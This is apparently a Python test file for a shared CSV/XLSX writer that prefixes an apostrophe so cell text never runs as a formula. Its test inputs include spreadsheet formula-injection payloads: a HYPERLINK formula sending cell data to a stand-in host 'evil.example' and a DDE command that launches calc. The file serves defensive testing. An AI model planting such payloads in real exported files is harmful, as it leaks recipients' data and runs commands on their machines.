"""The shared writer of CSV and XLSX cells: nothing runs as a formula, numbers stay numbers, text comes back."""

import datetime
import io
import re
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.tabular import CsvWriter, append_row, read_cell, safe_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A2,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+33 3 26 00 00 00",
    "-2+3",
    "\tcachée",
    "\rretour",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("number", [-3, -2.5, Decimal("-1500.50"), 0, 42, Decimal("94188.23")])
def test_numbers_stay_numbers_negative_ones_included(number):
    assert safe_cell(number) is number


@pytest.mark.parametrize("text", ["-3", "-12,5", "+4.25", "Reims", "", "'Quote", "1 000", "l'été"])
def test_plain_text_and_numbers_written_as_text_are_left_alone(text):
    assert safe_cell(text) == text


def test_dates_booleans_and_empty_cells_are_left_alone():
    day = datetime.date(2025, 3, 1)
    assert (safe_cell(day), safe_cell(True), safe_cell(None)) == (day, True, None)


@given(st.text(max_size=30))
def test_any_text_reads_back_as_it_was_and_is_never_a_formula(text):
    written = safe_cell(text)
    assert read_cell(written) == text
    if written.startswith(("=", "+", "-", "@", "\t", "\r")):
        assert re.fullmatch(r"[+-][0-9]+(?:[.,][0-9]+)?", written), "only a plain signed number may start so"


def test_text_already_starting_with_an_apostrophe_survives_the_round_trip():
    for text in ["'=déjà protégé", "''", "'@x"]:
        assert read_cell(safe_cell(text)) == text


def test_csv_writer_quotes_formulas_then_formats_numbers():
    buffer = io.StringIO()
    writer = CsvWriter(buffer, delimiter=";", text=lambda v: str(v).replace(".", ",") if isinstance(v, Decimal) else v)
    writer.writerow(["=1+1", Decimal("-1.50"), -3, "@SUM(A1)"])
    assert buffer.getvalue() == "'=1+1;-1,50;-3;'@SUM(A1)\r\n"


def test_xlsx_rows_hold_text_never_formulas_and_numbers_as_numbers():
    workbook = openpyxl.Workbook()
    append_row(workbook.active, ['=HYPERLINK("http://evil.example","x")', -2.5, Decimal("-3.10"), "Texte"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    cells = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active[1]
    assert [c.data_type for c in cells] == ["s", "n", "n", "s"]
    assert [c.value for c in cells] == ['\'=HYPERLINK("http://evil.example","x")', -2.5, -3.1, "Texte"]
